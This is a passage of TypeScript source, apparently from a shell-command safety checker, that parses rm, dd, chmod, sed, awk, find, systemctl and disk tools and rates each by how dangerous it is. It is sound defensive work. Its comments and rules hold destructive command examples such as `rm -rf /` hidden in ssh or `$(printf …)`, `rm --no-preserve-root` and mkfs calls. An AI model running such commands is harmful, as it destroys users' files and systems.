  return { word: { text: `${dir.text}/${name}`, parts }, text: `${dir.text}/${name}`, value: dir.value === undefined ? undefined : `${dir.value}/${name}` };
}

/** The argument with its first `n` characters (a literal `of=` …) removed. */
export function dropPrefix(arg: Arg, n: number): Arg {
  const parts = [...arg.word.parts];
  const first = parts[0];
  if (first?.type === 'literal') {
    if (first.value.length > n) parts[0] = { ...first, value: first.value.slice(n) };
    else parts.shift();
  }
  const text = arg.text.slice(n);
  return { word: { text, parts }, text, value: arg.value?.slice(n) };
}

function basenameOf(arg: Arg): string | undefined {
  const v = arg.value?.replace(/\/+$/, '');
  if (!v) return undefined;
  const base = posix.basename(v);
  return base && base !== '.' && base !== '..' ? base : undefined;
}

/** Destination checks of cp/mv/install/ln: the destination, and `dest/name` when it is a directory above a protected path. */
function checkDestination(dest: Arg, sources: readonly Arg[], out: Verdict, paths: PathContext): void {
  checkPath(dest, 'write', out, paths);
  const known = resolveWord(dest.word, paths).known;
  if (!known.some((p) => paths.protectedPaths.some((pp) => patternCovers(p, pp)))) return;
  for (const source of sources) {
    const base = basenameOf(source);
    if (base) checkPath(joinArg(dest, base), 'write', out, paths);
  }
}

function copyTargets(o: ParsedOptions): { dest?: Arg; sources: Arg[] } {
  const target = o.value('target-directory');
  if (target) return { dest: target, sources: o.operands };
  if (o.operands.length >= 2) return { dest: o.operands[o.operands.length - 1], sources: o.operands.slice(0, -1) };
  return { sources: o.operands };
}

const COPY_SPEC: OptionSpec = {
  short: { r: 'recursive', R: 'recursive', a: 'archive', f: 'force', t: 'target-directory', T: 'no-target-directory', S: 'suffix', b: 'backup', n: 'no-clobber', i: 'interactive', v: 'verbose', u: 'update', l: 'link', s: 'symbolic', p: 'preserve', d: 'directory', m: 'mode', g: 'group', o: 'owner', D: 'D' },
  long: { recursive: 'recursive', archive: 'archive', force: 'force', 'target-directory': 'target-directory', 'no-target-directory': 'no-target-directory', suffix: 'suffix', backup: 'backup', 'no-clobber': 'no-clobber', interactive: 'interactive', verbose: 'verbose', update: 'update', link: 'link', 'symbolic-link': 'symbolic', symbolic: 'symbolic', preserve: 'preserve', directory: 'directory', mode: 'mode', group: 'group', owner: 'owner', 'no-dereference': 'no-dereference', relative: 'relative', 'strip-trailing-slashes': 'strip-trailing-slashes' },
  shortValue: 'tS',
  longValue: ['target-directory', 'suffix'],
};
const INSTALL_SPEC: OptionSpec = { ...COPY_SPEC, shortValue: 'tSmgo', longValue: ['target-directory', 'suffix', 'mode', 'group', 'owner'] };

const cpRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, COPY_SPEC);
  out.addFlags(o.display);
  const { dest, sources } = copyTargets(o);
  if (dest) checkDestination(dest, sources, out, env.paths);
  out.yellow(`${inv.name} copies files`);
};

const mvRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, COPY_SPEC);
  out.addFlags(o.display);
  const { dest, sources } = copyTargets(o);
  for (const source of sources) checkPath(source, 'move-away', out, env.paths, { label: 'mv', verb: 'moves' });
  if (dest) checkDestination(dest, sources, out, env.paths);
  out.yellow('mv moves or renames files');
};

const installRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, INSTALL_SPEC);
  out.addFlags(o.display);
  if (o.has('directory')) for (const dir of o.operands) checkPath(dir, 'write', out, env.paths);
  else {
    const { dest, sources } = copyTargets(o);
    if (dest) checkDestination(dest, sources, out, env.paths);
  }
  out.yellow('install copies files into place');
};

const lnRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, COPY_SPEC);
  out.addFlags(o.display);
  const { dest, sources } = copyTargets(o);
  if (dest) checkDestination(dest, sources, out, env.paths);
  else for (const source of sources) {
    const base = basenameOf(source);
    checkPath(base ? literalArg(base) : unknownArg(source.text), 'write', out, env.paths);
  }
  out.yellow('ln creates links');
};

const RM_SPEC: OptionSpec = {
  short: { r: 'recursive', R: 'recursive', f: 'force', i: 'interactive', I: 'interactive', d: 'dir', v: 'verbose' },
  long: { recursive: 'recursive', force: 'force', interactive: 'interactive', dir: 'dir', verbose: 'verbose', 'no-preserve-root': 'no-preserve-root', 'preserve-root': 'preserve-root', 'one-file-system': 'one-file-system', help: 'help', version: 'version' },
};

/** `rm -r -f`, from whatever spelling was used. */
function rmLabel(o: ParsedOptions): string {
  const flags = [o.has('recursive') ? '-r' : '', o.has('force') ? '-f' : ''].filter(Boolean);
  if (o.maybeAnyOption && !o.has('recursive')) flags.push('(options known only at run time)');
  return ['rm', ...flags].join(' ');
}

const rmRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, RM_SPEC);
  out.addFlags(o.display);
  if (o.has('help', 'version') && o.operands.length === 0) return out.green('rm only prints its help');
  const recursive = o.has('recursive') || o.maybeAnyOption;
  const label = rmLabel(o);
  for (const operand of o.operands) checkPath(operand, recursive ? 'delete-tree' : 'delete', out, env.paths, { label, verb: 'deletes' });
  if (o.has('no-preserve-root')) out.red('rm --no-preserve-root turns off the protection of /');
  out.yellow(o.has('recursive') ? 'rm -r deletes directories and everything in them' : recursive ? 'rm deletes files (with options known only at run time)' : 'rm deletes files');
};

const deleteRule =
  (label: string, spec: OptionSpec = {}): Rule =>
  (inv, out, env) => {
    const o = parseOptions(inv.args, spec);
    out.addFlags(o.display);
    for (const operand of o.operands) checkPath(operand, 'delete', out, env.paths, { label });
    out.yellow(`${label} deletes files`);
  };

const writeOperandsRule =
  (what: string, spec: OptionSpec = {}): Rule =>
  (inv, out, env) => {
    const o = parseOptions(inv.args, spec);
    out.addFlags(o.display);
    for (const operand of o.operands) checkPath(operand, 'write', out, env.paths);
    out.yellow(what);
  };

const teeRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { short: { a: 'append', i: 'ignore-interrupts', p: 'p' }, long: { append: 'append', 'ignore-interrupts': 'ignore-interrupts', 'output-error': 'output-error' } });
  out.addFlags(o.display);
  for (const operand of o.operands) checkPath(operand, 'write', out, env.paths);
  out.green('tee only copies its input to its output');
};

const ddRule: Rule = (inv, out, env) => {
  for (const arg of inv.args) {
    const v = arg.value ?? arg.text;
    if (v.startsWith('of=')) checkPath(dropPrefix(arg, 3), 'write', out, env.paths);
  }
  out.yellow('dd copies raw data');
};

const truncateRule = writeOperandsRule('truncate cuts files short', { shortValue: 'sr', longValue: ['size', 'reference'], long: { size: 'size', reference: 'reference', 'no-create': 'no-create', 'io-blocks': 'io-blocks' } });
const touchRule = writeOperandsRule('touch creates files or updates their times', { shortValue: 'drt', longValue: ['date', 'reference'], long: { date: 'date', reference: 'reference' } });
const mkdirRule = writeOperandsRule('mkdir creates directories', { short: { p: 'parents', m: 'mode', v: 'verbose' }, shortValue: 'm', longValue: ['mode'], long: { parents: 'parents', mode: 'mode', verbose: 'verbose' } });

const PERMISSION_SPEC: OptionSpec = {
  short: { R: 'recursive', f: 'silent', v: 'verbose', c: 'changes', h: 'no-dereference', H: 'H', L: 'L', P: 'P' },
  long: { recursive: 'recursive', silent: 'silent', quiet: 'silent', verbose: 'verbose', changes: 'changes', reference: 'reference', from: 'from', 'no-dereference': 'no-dereference', dereference: 'dereference', 'preserve-root': 'preserve-root', 'no-preserve-root': 'no-preserve-root' },
};

/** chmod, chown, chgrp, chattr, setfacl: the first operand is the mode/owner unless --reference gives it. */
const permissionRule =
  (verb: string): Rule =>
  (inv, out, env) => {
    const args = inv.name === 'chmod' ? inv.args.map((a) => (a.value && /^-[rwxXst]+$/.test(a.value) ? literalArg(a.value.replace(/^-/, 'a-')) : a)) : inv.args;
    const spec: OptionSpec = inv.name === 'setfacl' ? { ...PERMISSION_SPEC, shortValue: 'mMxX', short: { ...PERMISSION_SPEC.short, b: 'remove-all', k: 'remove-default' } } : PERMISSION_SPEC;
    const o = parseOptions(args, spec);
    out.addFlags(o.display);
    const recursive = o.has('recursive') || o.maybeAnyOption;
    const explicitMode = o.has('reference') || inv.name === 'setfacl' || (inv.name === 'chattr' && [...o.flags].some((f) => /^-[a-zA-Z]$/.test(f)));
    const [mode, ...rest] = o.operands;
    const targets = explicitMode ? o.operands : rest;
    if (inv.name === 'chmod' && mode?.value && /(^|[,ugoa])[-+=][rwxXt]*s|^[2-7]\d{3}$/.test(mode.value) && !explicitMode) out.yellow('chmod sets the setuid/setgid bit');
    if (inv.name === 'chmod' && mode?.value && /^0?777$|^a?\+rwx$|^o\+w/.test(mode.value) && !explicitMode) out.yellow('chmod makes files writable by everyone');
    const label = `${inv.name}${recursive ? ' -R' : ''}`;
    for (const target of targets) checkPath(target, recursive ? 'modify-tree' : 'modify', out, env.paths, { label, verb });
    if (o.has('no-preserve-root')) out.red(`${inv.name} --no-preserve-root turns off the protection of /`);
    out.yellow(`${inv.name} ${verb} files`);
  };

const rsyncRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { shortValue: 'efBTM', longValue: ['rsh', 'filter', 'exclude', 'include', 'exclude-from', 'include-from', 'files-from', 'rsync-path', 'temp-dir', 'partial-dir', 'backup-dir', 'suffix', 'chmod', 'chown', 'log-file', 'password-file', 'port', 'timeout', 'bwlimit', 'compare-dest', 'copy-dest', 'link-dest', 'max-size', 'min-size', 'max-delete', 'out-format', 'info', 'debug', 'block-size', 'modify-window', 'usermap', 'groupmap'] });
  out.addFlags(o.display);
  const dest = o.operands[o.operands.length - 1];
  const deletes = [...o.flags].some((f) => f.startsWith('--delete') || f === '--remove-source-files');
  if (dest && o.operands.length >= 2 && !/^[^/]*:/.test(dest.value ?? '')) {
    checkPath(dest, deletes ? 'delete-tree' : 'write', out, env.paths, { label: deletes ? 'rsync --delete' : 'rsync', verb: deletes ? 'can delete' : 'writes to' });
  } else if (dest) out.yellow('rsync copies files to another machine');
  if (deletes) out.yellow('rsync --delete deletes files missing from the source');
  out.yellow('rsync copies files');
};

// ---------------------------------------------------------------------------------------------
// Text tools that are read-only unless told otherwise

/**
 * The shell text an argument stands for once the outer shell has removed its quotes
 * (`ssh host 'rm -rf /'`), with `$( )` whose output is known replaced by it
 * (`sh -c "$(printf 'rm -rf /')"`); other expansions stay as written.
 */
export function shellText(arg: Arg, paths?: PathContext): string {
  if (arg.value !== undefined) return arg.value;
  return arg.word.parts
    .map((p) => {
      if (p.type === 'literal') return p.value;
      if (p.type === 'substitution' && p.kind === 'command') return paths?.staticOutput?.(p.body) ?? p.text;
      return p.text;
    })
    .join('');
}

/** What a sed script does besides printing: files it writes (`w`, `s///w`) and commands it runs (`e`, `s///e`). */
export function analyzeSed(script: string): { writes: string[]; commands: string[]; executes: boolean; unsure: boolean } {
  const writes: string[] = [];
  const commands: string[] = [];
  let executes = false;
  let i = 0;
  const n = script.length;
  const at = (k: number): string => script[k] ?? '';
  const skipBlanks = (): void => {
    while (i < n && (at(i) === ' ' || at(i) === '\t')) i++;
  };
  const toLineEnd = (): string => {
    const start = i;
    while (i < n && at(i) !== '\n') i++;
    return script.slice(start, i);
  };
  const skipDelimited = (d: string): void => {
    while (i < n && at(i) !== d) i += at(i) === '\\' ? 2 : 1;
    i++;
  };
  const address = (): void => {
    skipBlanks();
    if (at(i) === '/') {
      i++;
      skipDelimited('/');
    } else if (at(i) === '\\') {
      const d = at(i + 1);
      i += 2;
      skipDelimited(d);
    } else while (i < n && /[0-9$~]/.test(at(i))) i++;
    while (i < n && /[IM]/.test(at(i))) i++;
  };
  while (i < n) {
    skipBlanks();
    const c = at(i);
    if (c === '\n' || c === ';' || c === '{' || c === '}') {
      i++;
      continue;
    }
    if (c === '#') {
      toLineEnd();
      continue;
    }
    address();
    skipBlanks();
    if (at(i) === ',') {
      i++;
      skipBlanks();
      if (at(i) === '+' || at(i) === '~') {
        i++;
        while (i < n && /\d/.test(at(i))) i++;
      } else address();
    }
    skipBlanks();
    if (at(i) === '!') {
      i++;
      skipBlanks();
    }
    const command = at(i++);
    switch (command) {
      case '':
      case '{':
      case '}':
      case ';':
      case '\n':
        break;
      case 's': {
        const d = at(i++);
        skipDelimited(d);
        skipDelimited(d);
        while (i < n && /[gpiImMe0-9]/.test(at(i))) if (at(i++) === 'e') executes = true;
        if (at(i) === 'w') {
          i++;
          skipBlanks();
          writes.push(toLineEnd().trim());
        }
        break;
      }
      case 'y': {
        const d = at(i++);
        skipDelimited(d);
        skipDelimited(d);
        break;
      }
      case 'a':
      case 'i':
      case 'c':
      case 'r':
      case 'R':
        toLineEnd();
        break;
      case 'w':
      case 'W':
        skipBlanks();
        writes.push(toLineEnd().trim());
        break;
      case 'e': {
        executes = true;
        skipBlanks();
        const cmd = toLineEnd().trim();
        if (cmd) commands.push(cmd);
        break;
      }
      case ':':
      case 'b':
      case 't':
      case 'T':
      case 'v':
        while (i < n && at(i) !== ';' && at(i) !== '\n') i++;
        break;
      case 'q':
      case 'Q':
      case 'l':
      case 'L':
        skipBlanks();
        while (i < n && /\d/.test(at(i))) i++;
        break;
      default:
        if ('=dDgGhHnNpPxzF'.includes(command)) break;
        return { writes, commands, executes, unsure: true };
    }
  }
  return { writes, commands, executes, unsure: false };
}

const SED_SPEC: OptionSpec = {
  short: { n: 'quiet', e: 'expression', f: 'file', i: 'in-place', E: 'regexp-extended', r: 'regexp-extended', s: 'separate', z: 'null-data', u: 'unbuffered', l: 'line-length' },
  long: { quiet: 'quiet', silent: 'quiet', expression: 'expression', file: 'file', 'in-place': 'in-place', 'regexp-extended': 'regexp-extended', separate: 'separate', 'null-data': 'null-data', 'zero-terminated': 'null-data', sandbox: 'sandbox', debug: 'debug', posix: 'posix', 'follow-symlinks': 'follow-symlinks', 'line-length': 'line-length', unbuffered: 'unbuffered' },
  shortValue: 'efl',
  shortOptionalValue: 'i',
  longValue: ['expression', 'file', 'line-length'],
};

const sedRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, SED_SPEC);
  out.addFlags(o.display);
  let operands = o.operands;
  const inPlace = o.has('in-place');
  if (inPlace && !o.value('in-place') && operands[0]?.value === '') operands = operands.slice(1); // BSD `sed -i '' …`
  const scripts = [...(o.values.get('expression') ?? [])];
  if (o.has('file')) out.yellow('sed runs a script file Tandem cannot see');
  if (scripts.length === 0 && !o.has('file') && operands[0]) {
    scripts.push(operands[0]);
    operands = operands.slice(1);
  }
  for (const script of scripts) {
    if (script.value === undefined) {
      out.yellow('the sed script is known only at run time');
      continue;
    }
    const found = analyzeSed(script.value);
    if (found.unsure) out.yellow('the sed script has commands Tandem cannot read');
    if (o.has('sandbox')) continue;
    if (found.executes) out.yellow('the sed script runs shell commands');
    for (const command of found.commands) env.nestedSource(command, 'sed e');
    for (const file of found.writes) checkPath(literalArg(file), 'write', out, env.paths);
  }
  if (inPlace) {
    for (const file of operands) checkPath(file, 'write', out, env.paths);
    out.yellow(`sed -i edits ${operands.map(shown).join(', ') || 'files'} in place`);
  }
  out.green('sed only prints');
};

/** Shell commands inside a program's string literals: `system("…")`, `os.system('…')`, `execSync("…")` … */
export function embeddedCommands(code: string): string[] {
  const found: string[] = [];
  const re = /\b(?:os\.system|os\.popen|subprocess\.\w+|system|exec|execSync|spawnSync|shell_exec|passthru|popen|do shell script)\s*\(?\s*\[?\s*(["'`])((?:\\.|(?!\1)[^\\])*)\1/g;
  for (const m of code.matchAll(re)) found.push((m[2] ?? '').replace(/\\(.)/g, '$1'));
  return found;
}

const AWK_SPEC: OptionSpec = {
  short: { F: 'field-separator', v: 'assign', f: 'file', i: 'include', E: 'exec', e: 'source' },
  long: { 'field-separator': 'field-separator', assign: 'assign', file: 'file', include: 'include', exec: 'exec', source: 'source', sandbox: 'sandbox' },
  shortValue: 'FvfiEeWl',
  longValue: ['field-separator', 'assign', 'file', 'include', 'exec', 'source', 'load'],
};

const awkRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, AWK_SPEC);
  out.addFlags(o.display);
  const programs = [...(o.values.get('source') ?? [])];
  let files = o.operands;
  if (o.has('file', 'exec')) out.yellow(`${inv.name} runs a program file Tandem cannot see`);
  else if (programs.length === 0 && files[0]) {
    programs.push(files[0]);
    files = files.slice(1);
  }
  if ((o.values.get('include') ?? []).some((a) => a.value === 'inplace')) {
    for (const file of files) checkPath(file, 'write', out, env.paths);
    out.yellow(`${inv.name} -i inplace edits files in place`);
  }
  for (const program of programs) {
    const text = program.value;
    if (text === undefined) {
      out.yellow(`the ${inv.name} program is known only at run time`);
      continue;
    }
    if (o.has('sandbox')) continue;
    if (/\bsystem\s*\(/.test(text)) {
      out.yellow(`the ${inv.name} program runs shell commands`);
      for (const command of embeddedCommands(text)) env.nestedSource(command, `${inv.name} system()`);
    }
    if (/(^|[^|])\|(?!\|)/.test(text)) out.yellow(`the ${inv.name} program pipes to or from shell commands`);
    for (const m of text.matchAll(/\bprintf?\b[^;}\n]*?>>?\s*("([^"]*)"|[^\s;}]+)/g)) {
      if (m[2] !== undefined) checkPath(literalArg(m[2]), 'write', out, env.paths);
      else out.yellow(`the ${inv.name} program writes to a file named at run time`);
    }
  }
  out.green(`${inv.name} only prints`);
};

/** Read-only unless an option names an output file. */
const outputOptionRule =
  (spec: OptionSpec, outputs: string[], extra?: (o: ParsedOptions, out: Verdict, env: RuleEnv) => void): Rule =>
  (inv, out, env) => {
    const o = parseOptions(inv.args, spec);
    out.addFlags(o.display);
    for (const name of outputs) for (const file of o.values.get(name) ?? []) checkPath(file, 'write', out, env.paths);
    extra?.(o, out, env);
    out.green(`${inv.name} only prints`);
  };

const sortRule = outputOptionRule(
  { short: { o: 'output', k: 'key', t: 'field-separator', T: 'temporary-directory', S: 'buffer-size' }, shortValue: 'koTtS', long: { output: 'output', key: 'key', 'field-separator': 'field-separator', 'temporary-directory': 'temporary-directory', 'buffer-size': 'buffer-size', 'compress-program': 'compress-program', 'files0-from': 'files0-from' }, longValue: ['output', 'key', 'field-separator', 'temporary-directory', 'buffer-size', 'files0-from', 'compress-program', 'parallel', 'random-source', 'sort'] },
  ['output'],
  (o, out) => {
    if (o.has('compress-program')) out.yellow('sort --compress-program runs a program');
  },
);
const uniqRule = outputOptionRule({ shortValue: 'fsw', longValue: ['skip-fields', 'skip-chars', 'check-chars'] }, [], (o, out, env) => {
  const output = o.operands[1];
  if (output) checkPath(output, 'write', out, env.paths);
});
const xxdRule = outputOptionRule({ shortValue: 'cglosnC' }, [], (o, out, env) => {
  const output = o.operands[1];
  if (output) checkPath(output, 'write', out, env.paths);
});
const iconvRule = outputOptionRule({ short: { o: 'output', f: 'from-code', t: 'to-code' }, shortValue: 'fto', long: { output: 'output', 'from-code': 'from-code', 'to-code': 'to-code' }, longValue: ['output', 'from-code', 'to-code'] }, ['output']);
const base64Rule = outputOptionRule({ short: { o: 'output', i: 'input' }, shortValue: 'iobw', long: { output: 'output', input: 'input' }, longValue: ['output', 'input', 'wrap', 'break'] }, ['output']);
const yqRule = outputOptionRule({ short: { i: 'inplace' }, long: { inplace: 'inplace' } }, [], (o, out, env) => {
  if (!o.has('inplace')) return;
  for (const file of o.operands.slice(1)) checkPath(file, 'write', out, env.paths);
  out.yellow('yq -i edits files in place');
});

const FIND_VALUE_TESTS: ReadonlySet<string> = new Set([
  '-name', '-iname', '-path', '-ipath', '-wholename', '-iwholename', '-regex', '-iregex', '-type', '-xtype', '-size', '-mtime', '-mmin',
  '-atime', '-amin', '-ctime', '-cmin', '-newer', '-anewer', '-cnewer', '-user', '-group', '-uid', '-gid', '-perm', '-maxdepth',
  '-mindepth', '-links', '-inum', '-samefile', '-lname', '-ilname', '-fstype', '-context', '-printf', '-used', '-regextype', '-files0-from',
]);
/** Tests that narrow what find matches (so `find ~ -name '*.pyc' -delete` is not `rm -rf ~`). `-type` does not narrow enough. */
const FIND_FILTERS: ReadonlySet<string> = new Set([
  '-name', '-iname', '-path', '-ipath', '-wholename', '-iwholename', '-regex', '-iregex', '-size', '-mtime', '-mmin', '-atime', '-amin',
  '-ctime', '-cmin', '-newer', '-anewer', '-cnewer', '-user', '-group', '-uid', '-gid', '-perm', '-links', '-inum', '-samefile', '-lname',
  '-ilname', '-empty', '-nouser', '-nogroup', '-used',
]);
/** Commands that delete (or move away) what they are given. */
export const DELETERS: ReadonlySet<string> = new Set(['rm', 'unlink', 'rmdir', 'shred', 'srm', 'wipe', 'truncate', 'mv']);

const findRule: Rule = (inv, out, env) => {
  const args = inv.args;
  let i = 0;
  while (i < args.length && /^-([HLP]|O\d*|D)$/.test(args[i]?.value ?? '')) i += args[i]?.value === '-D' ? 2 : 1;
  const starts: Arg[] = [];
  for (; i < args.length; i++) {
    const v = (args[i] as Arg).value;
    if (v !== undefined && (v.startsWith('-') || v === '(' || v === '!' || v === ')' || v === ',')) break;
    starts.push(args[i] as Arg);
  }
  if (starts.length === 0) starts.push(literalArg('.'));
  let deletes = false;
  let filtered = false;
  const actions: string[] = [];
  for (; i < args.length; i++) {
    const v = (args[i] as Arg).value;
    if (v === undefined) {
      out.yellow('part of the find expression is known only at run time');
      continue;
    }
    if (v === '-delete') {
      deletes = true;
      actions.push('-delete');
    } else if (v === '-exec' || v === '-execdir' || v === '-ok' || v === '-okdir') {
      const argv: Arg[] = [];
      for (i++; i < args.length; i++) {
        const a = args[i] as Arg;
        if (a.value === ';' || (a.value === '+' && args[i - 1]?.value === '{}')) break;
        argv.push(a.value?.includes('{}') ? unknownArg(`${a.text} (each file found)`, true) : a);
      }
      const name = posix.basename(argv[0]?.value ?? '');
      if (DELETERS.has(name)) {
        deletes = true;
        actions.push(`${v} ${name}`);
      }
      env.nestedArgv(argv, `find ${v}`);
    } else if (v === '-fprint' || v === '-fprint0' || v === '-fls' || v === '-fprintf') {
      const file = args[++i];
      if (v === '-fprintf') i++;
      if (file) checkPath(file, 'write', out, env.paths);
    } else {
      if (FIND_FILTERS.has(v) || /^-newer[acmBt]{2}$/.test(v)) filtered = true;
      if (FIND_VALUE_TESTS.has(v) || /^-newer[acmBt]{2}$/.test(v)) i++;
    }
  }
  if (deletes) {
    const label = `find ${actions.join(' ')}`;
    const otherwise = `${label} deletes what it matches under ${starts.map(shown).join(' ')}`;
    for (const start of starts) checkPath(start, filtered ? 'delete' : 'delete-tree', out, env.paths, { label, verb: 'deletes', otherwise });
  }
  out.green('find only lists files');
};

const dateRule: Rule = (inv, out) => {
  const o = parseOptions(inv.args, { short: { s: 'set', d: 'date', f: 'file', r: 'reference' }, shortValue: 'sdfrI', long: { set: 'set', date: 'date', file: 'file', reference: 'reference' }, longValue: ['set', 'date', 'file', 'reference'] });
  if (o.has('set') || o.operands.some((a) => a.value !== undefined && /^\d{4,}/.test(a.value))) out.yellow('date sets the system clock');
  else out.green('date only prints');
};

const hostnameRule: Rule = (inv, out) => {
  const o = parseOptions(inv.args, { short: { F: 'file', b: 'boot' }, shortValue: 'F', long: { file: 'file', boot: 'boot' }, longValue: ['file'] });
  if (o.operands.length > 0 || o.has('file', 'boot')) out.yellow('hostname renames the machine');
  else out.green('hostname only prints');
};

const historyRule: Rule = (inv, out) => {
  const o = parseOptions(inv.args);
  if (o.has('-c')) out.yellow('history -c clears the shell history');
  else if (o.has('-d', '-w', '-a', '-r', '-n', '-s', '-p')) out.yellow('history changes the history list or file');
  else out.green('history only prints');
};

const killRule: Rule = (inv, out) => {
  const args = inv.args.map((a) => a.value ?? a.text);
  if (args.some((a) => a === '-l' || a === '-L' || a.startsWith('--list') || a === '--table')) return out.green('kill only lists signals');
  let i = 0;
  if (args[0] === '-s' || args[0] === '-n' || args[0] === '--signal') i = 2;
  else if (args[0]?.startsWith('-') && args[0] !== '--') i = 1;
  if (args[i] === '--') i++;
  const pids = args.slice(i);
  if (pids.includes('-1')) out.red('kill -1 signals every process you are allowed to signal');
  else if (pids.includes('1')) out.red('kill 1 signals init, the first process');
  out.yellow('kill stops or signals processes');
};

const crontabRule: Rule = (inv, out) => {
  const o = parseOptions(inv.args, { shortValue: 'uc' });
  if (o.has('-r')) out.red('crontab -r deletes all your cron jobs, without asking');
  else if (o.has('-l') && o.operands.length === 0) out.green('crontab -l only lists');
  else out.yellow('crontab changes scheduled jobs');
};

const dmesgRule: Rule = (inv, out) => {
  const o = parseOptions(inv.args, { long: { clear: 'clear', 'read-clear': 'read-clear', 'console-off': 'console-off', 'console-on': 'console-on', 'console-level': 'console-level' } });
  if (o.has('-c', '-C', '-D', '-E', '-n', 'clear', 'read-clear', 'console-off', 'console-on', 'console-level')) out.yellow('dmesg changes the kernel log');
  else out.green('dmesg only reads');
};

const mountRule: Rule = (inv, out) => {
  const o = parseOptions(inv.args, { shortValue: 'tOo' });
  if (o.operands.length === 0 && !o.has('-a', '--all', '-o')) out.green('mount only lists mounts');
  else out.yellow('mount changes what is mounted');
};

const ipRule: Rule = (inv, out) => {
  const o = parseOptions(inv.args, { stopAtOperand: true, shortValue: 'fbn', long: { family: 'family', batch: 'batch', netns: 'netns' }, longValue: ['family', 'batch', 'netns'] });
  const [object, verb] = o.operands.map((a) => a.value);
  if (o.has('-b', 'batch')) out.yellow('ip runs a batch file');
  else if (object === undefined || verb === undefined || /^(show|list|lst|ls|get|s|l|help)$/.test(verb) || (object === 'monitor' || object === 'help')) out.green('ip only shows network state');
  else out.yellow(`ip ${object} ${verb} changes network settings`);
};

const ifconfigRule: Rule = (inv, out) => {
  const operands = inv.args.filter((a) => !(a.value ?? '').startsWith('-'));
  if (operands.length <= 1) out.green('ifconfig only shows interfaces');
  else out.yellow('ifconfig changes network settings');
};

const journalctlRule: Rule = (inv, out) => {
  const o = parseOptions(inv.args, { shortValue: 'unpSUkbtoDFMIm', longValue: ['unit', 'lines', 'priority', 'since', 'until', 'output', 'directory', 'file', 'boot', 'identifier', 'grep', 'namespace', 'root', 'image', 'user-unit', 'field', 'facility', 'cursor', 'after-cursor'] });
  const changing = [...o.flags].filter((f) => /^--(vacuum-|rotate|flush|sync|relinquish-var|smart-relinquish-var|setup-keys|update-catalog)/.test(f));
  if (changing.length > 0) out.yellow(`journalctl ${changing.join(' ')} changes the journal`);
  else out.green('journalctl only reads logs');
};

const SYSTEMCTL_READ = /^(status|show|cat|list-\w+|is-active|is-enabled|is-failed|is-system-running|get-default|help|show-environment|--version|version|check|dot|verify)$/;
const SYSTEMCTL_POWER = /^(poweroff|reboot|halt|kexec|emergency|rescue|soft-reboot|default)$/;

const systemctlRule: Rule = (inv, out) => {
  const o = parseOptions(inv.args, { shortValue: 'tpHMsnoS', long: { type: 'type', property: 'property', host: 'host', machine: 'machine', signal: 'signal', lines: 'lines', output: 'output', state: 'state', root: 'root', 'job-mode': 'job-mode', 'kill-whom': 'kill-whom', force: 'force' }, longValue: ['type', 'property', 'host', 'machine', 'signal', 'lines', 'output', 'state', 'root', 'job-mode', 'kill-whom', 'kill-value', 'what', 'boot-loader-entry', 'boot-loader-menu', 'reboot-argument', 'timestamp', 'message'] });
  const verb = o.operands[0]?.value;
  if (verb === undefined) {
    if (o.operands[0]) out.yellow('systemctl with a verb known only at run time');
    else out.green('systemctl only lists units');
  } else if (SYSTEMCTL_POWER.test(verb)) out.red(`systemctl ${verb} stops or restarts the whole system`);
  else if (verb === 'isolate' && /(rescue|emergency|poweroff|reboot|halt)/.test(o.operands[1]?.value ?? 'x')) out.red('systemctl isolate switches the system to a rescue or shutdown state');
  else if (SYSTEMCTL_READ.test(verb)) out.green(`systemctl ${verb} only reads`);
  else if (verb === 'suspend' || verb === 'hibernate' || verb === 'hybrid-sleep' || verb === 'suspend-then-hibernate') out.yellow(`systemctl ${verb} puts the machine to sleep`);
  else out.yellow(`systemctl ${verb} changes services`);
};

/** hostnamectl, timedatectl … : reading verbs are GREEN, the rest change settings. */
const ctlRule =
  (power = false): Rule =>
  (inv, out) => {
    const o = parseOptions(inv.args, { shortValue: 'HMp', longValue: ['host', 'machine', 'property'] });
    const verb = o.operands[0]?.value;
    if (power && verb !== undefined && /^(poweroff|reboot|halt|kexec)$/.test(verb)) out.red(`${inv.name} ${verb} stops or restarts the whole system`);
    else if (verb === undefined && o.operands.length === 0) out.green(`${inv.name} only shows status`);
    else if (verb !== undefined && /^(status|show|show-\w+|list|list-\w+|query|statistics|help|dns|domain|session-status|user-status|seat-status|timesync-status)$/.test(verb)) out.green(`${inv.name} ${verb} only reads`);
    else out.yellow(`${inv.name} ${verb ?? ''} changes system settings`.replace('  ', ' '));
  };

const shutdownRule: Rule = (inv, out) => {
  const o = parseOptions(inv.args);
  if (inv.name === 'shutdown' && o.has('-c')) out.yellow('shutdown -c cancels a pending shutdown');
  else if (o.has('--help')) out.green(`${inv.name} only prints its help`);
  else out.red(`${inv.name} stops or restarts the whole system`);
};

const initRule: Rule = (inv, out) => {
  const level = inv.args.find((a) => !(a.value ?? '').startsWith('-'));
  if (!level) out.yellow(`${inv.name} without a runlevel`);
  else out.red(`${inv.name} ${shown(level)} changes the runlevel (0 halts, 6 reboots)`);
};

/** Formatting, partitioning and wiping disks. */
const diskRule: Rule = (inv, out) => {
  const values = inv.args.map((a) => a.value ?? a.text);
  const devices = values.filter((v) => v.startsWith('/dev/'));
  const listing = values.some((v) => v === '-l' || v === '--list' || v === '-s' || v === '--show' || v === 'print' || v === '--help' || v === '-V' || v === '--version');
  const name = inv.name;
  if (/^(mkfs|mke2fs|mkswap|mkntfs|mkdosfs|mkexfatfs|newfs)/.test(name) || name === 'wipefs' || name === 'blkdiscard') {
    out.red(`${name} ${devices.join(' ') || ''} erases a file system: everything on it is lost`.replace('  ', ' '));
  } else if (listing && !values.some((v) => /^(mklabel|rm|mkpart|resizepart|--delete|-d)$/.test(v))) {
    out.yellow(`${name} reads the partition table`);
  } else if (devices.length > 0) out.red(`${name} ${devices.join(' ')} rewrites the partition table of a disk`);
  else out.yellow(`${name} edits partition tables`);
};

const dconfRule: Rule = (inv, out) => {
  const [verb, ...rest] = inv.args.map((a) => a.value);
  if (verb === 'reset') {
    const dir = rest.find((v) => v !== undefined && v.startsWith('/'));
